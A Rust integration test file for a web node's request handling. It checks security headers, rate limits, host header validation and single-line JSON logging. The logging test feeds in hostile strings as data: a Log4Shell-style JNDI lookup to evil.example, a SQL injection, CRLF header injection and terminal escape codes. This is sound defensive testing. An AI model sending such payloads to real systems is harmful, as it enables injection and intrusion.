//! What every request passes: who may what, from where, how fast and how much; forms that come from elsewhere;
//! connections that say nothing; requests that are not what they seem.

mod accounts;
mod answers;
mod forms;
mod links;
mod raw;
mod silence;
mod table;

use std::fs;

use erikti_tests::http::{Answer, Browser};
use erikti_tests::process::Member;

/// A running node, alone.
fn node(name: &str) -> Member {
    let mut member = Member::init(name, &[]);
    member.start();
    member
}

/// A running node with settings changed: each is a line of `erikti.toml` that was a comment.
fn node_with(name: &str, settings: &[(&str, &str)]) -> Member {
    let mut member = Member::init(name, &[]);
    let path = member.data().join("erikti.toml");
    let mut text = fs::read_to_string(&path).expect("`init` writes settings");
    for (key, value) in settings {
        // What the harness sets for every node stands above the file.
        if key.contains('.') {
            member.set(key, value);
            continue;
        }
        let start = format!("# {key} = ");
        let lines: Vec<String> = text
            .lines()
            .map(|line| match line.starts_with(&start) {
                true => format!("{key} = {value}"),
                false => line.to_owned(),
            })
            .collect();
        text = lines.join("\n");
        assert!(
            text.contains(&format!("\n{key} = {value}")),
            "{key} is no setting"
        );
    }
    fs::write(&path, text).expect("settings can be written");
    member.start();
    member
}

/// A browser that would rather have documents than pages, so that tests see codes.
fn for_codes(browser: &Browser) -> Browser {
    browser.clone().with("accept", "application/json")
}

/// The code of a problem.
#[track_caller]
fn code(answer: &Answer) -> String {
    let document = answer.json();
    assert_eq!(document["status"], answer.status, "{document}");
    assert!(document["instance"].is_string(), "{document}");
    document["code"].as_str().unwrap_or_default().to_owned()
}

#[test]
fn every_answer_says_what_browsers_may_not_do_and_has_an_id() {
    let member = node("Headers");
    let mut browser = Browser::new(&member.pages);
    for path in [
        "/",
        "/signin",
        "/nowhere",
        "/v1/records",
        "/assets/nothing.css",
    ] {
        let answer = browser.get(path);
        let header = |name| {
            answer
                .header(name)
                .unwrap_or_else(|| panic!("{path} has no {name}"))
        };
        assert!(header("content-security-policy").starts_with("default-src 'none'"));
        assert!(!header("content-security-policy").contains("unsafe"));
        assert_eq!(header("x-content-type-options"), "nosniff");
        assert_eq!(header("referrer-policy"), "same-origin");
        assert_eq!(header("cross-origin-opener-policy"), "same-origin");
        assert_eq!(header("x-request-id").len(), 16);
        assert_eq!(answer.header("strict-transport-security"), None);
        if path != "/nowhere" {
            assert!(header("ratelimit").contains("r="), "{path}");
            assert!(header("ratelimit-policy").contains("q="), "{path}");
        }
    }
    // Somebody who only reads gets no cookie; whoever sees a form does, and that page is kept nowhere.
    let mut reader = Browser::new(&member.pages);
    assert_eq!(reader.get("/about").header("set-cookie"), None);
    let form = reader.get("/signin");
    assert!(
        form.header("set-cookie")
            .is_some_and(|cookie| cookie.contains("HttpOnly; SameSite=Strict"))
    );
    assert_eq!(form.header("cache-control"), Some("no-store"));
}

#[test]
fn an_address_that_there_is_not_is_a_page_for_people_and_a_document_for_programs() {
    let member = node("Nowhere");
    let page = Browser::new(&member.pages)
        .with("accept-language", "kk")
        .get("/nowhere");
    assert_eq!(
        (page.status, page.texts("h1")),
        (404, vec!["Мұндай бет жоқ".to_owned()])
    );
    let mut program = Browser::program(&member.pages, None);
    assert_eq!(code(&program.get("/nowhere")), "usage.route");
    let wrong = program.send("DELETE", "/v1/records", &[], b"");
    assert_eq!((wrong.status, code(&wrong).as_str()), (405, "usage.method"));
    let wrong = program.send("POST", "/about", &[], b"");
    assert_eq!((wrong.status, code(&wrong).as_str()), (405, "usage.method"));
    assert!(wrong.header("allow").is_some());
    assert!(
        !member.log().contains("has no row"),
        "a wrong method is nobody's fault"
    );
}

#[test]
fn whoever_asks_too_often_from_elsewhere_is_told_to_wait_and_others_are_not() {
    let member = node_with(
        "Limits",
        &[
            ("trusted_proxies", "[\"127.0.0.1\"]"),
            ("limits.requests_per_minute", "1"),
        ],
    );
    let mut stranger = Browser::program(&member.pages, None).with("x-forwarded-for", "203.0.113.7");
    let statuses: Vec<u16> = (0..6).map(|_| stranger.get("/v1/records").status).collect();
    assert_eq!(statuses, [200, 200, 200, 200, 200, 429]);
    let refused = stranger.get("/v1/records");
    assert_eq!(code(&refused), "limit.requests");
    let wait: u64 = refused
        .header("retry-after")
        .and_then(|wait| wait.parse().ok())
        .expect("it says how long");
    assert!((1..=60).contains(&wait), "{wait}");
    // What the stranger claims before the proxy's own word changes nothing.
    let mut same = stranger
        .clone()
        .with("x-forwarded-for", "198.51.100.1, 203.0.113.7");
    assert_eq!(same.get("/v1/records").status, 429);
    let mut other = stranger.clone().with("x-forwarded-for", "203.0.113.8");
    assert_eq!(other.get("/v1/records").status, 200);
    // Feeds and parts of pages are counted apart; the machine itself is hardly limited.
    assert_eq!(stranger.get("/livez").status, 200);
    let mut here = Browser::program(&member.pages, None);
    assert!((0..20).all(|_| here.get("/v1/records").status == 200));
}

#[test]
fn only_hosts_of_this_node_are_answered_for() {
    let member = node_with(
        "Hosts",
        &[("public_url", "\"https://volunteers.example.org\"")],
    );
    let mut program = Browser::program(&member.pages, None);
    let port = program
        .host()
        .rsplit(':')
        .next()
        .expect("a port")
        .to_owned();
    for own in [
        "localhost".to_owned(),
        format!("localhost:{port}"),
        format!("127.0.0.1:{port}"),
        format!("[::1]:{port}"),
        "volunteers.example.org".to_owned(),
        "VOLUNTEERS.example.org:443".to_owned(),
    ] {
        assert_eq!(
            program.send("GET", "/livez", &[("host", &own)], b"").status,
            200,
            "{own}"
        );
    }
    for foreign in [
        "evil.example",
        "127.0.0.1.nip.io",
        "localhost.evil.example",
        "203.0.113.5",
        "volunteers.example.org.evil.example",
    ] {
        let refused = program.send("GET", "/livez", &[("host", foreign)], b"");
        assert_eq!(
            (refused.status, code(&refused).as_str()),
            (421, "host.foreign"),
            "{foreign}"
        );
    }
    let secure = program.get("/livez");
    assert!(secure.header("strict-transport-security").is_some());
}

#[test]
fn each_event_is_one_line_of_json_whatever_the_request_holds() {
    let mut member = Member::init("Lines", &[]);
    member.say("warn,erikti_node=debug").start();
    let mut hostile = Browser::new(&member.pages);
    let words = [
        "\x1b[31mred\x1b[0m",
        "{\"level\":\"ERROR\"}",
        "a\tb",
        "\u{202e}txt.exe",
        "' OR 1=1 --",
        "%0a%0dSet-Cookie: a=b",
        "${jndi:ldap://evil.example/a}",
        "\u{85}\u{2028}next",
        "日本語",
        "\"}\\n{\"",
    ];
    let mut asked = 0;
    for word in words {
        let word: String = word.chars().filter(|c| *c != '\n' && *c != '\r').collect();
        let encoded = erikti_tests::http::encoded(&word);
        let answers = [
            hostile.send("GET", "/about", &[("user-agent", &word)], b""),
            hostile.get(&format!("/nowhere/{encoded}")),
            hostile.get(&format!("/nowhere/{encoded}%0A%0D%1B")),
        ];
        // What is no request at all is refused before it has an id.
        asked += answers
            .iter()
            .filter(|answer| answer.header("x-request-id").is_some())
            .count();
    }
    assert!(asked >= words.len() * 2);
    member.stop();
    let log = fs::read(member.log_path()).expect("the node wrote a log");
    let text = String::from_utf8(log).expect("the log is UTF-8");
    assert!(
        text.bytes().all(|byte| byte >= 0x20 || byte == b'\n'),
        "a control character is in the log"
    );
    let mut answered = 0;
    for line in text.lines() {
        let event: serde_json::Value =
            serde_json::from_str(line).unwrap_or_else(|e| panic!("no JSON ({e}): {line}"));
        if event["fields"]["message"] == "answered" {
            answered += 1;
            assert!(event["span"]["id"].is_string(), "{line}");
        }
    }
    assert_eq!(answered, asked);
}
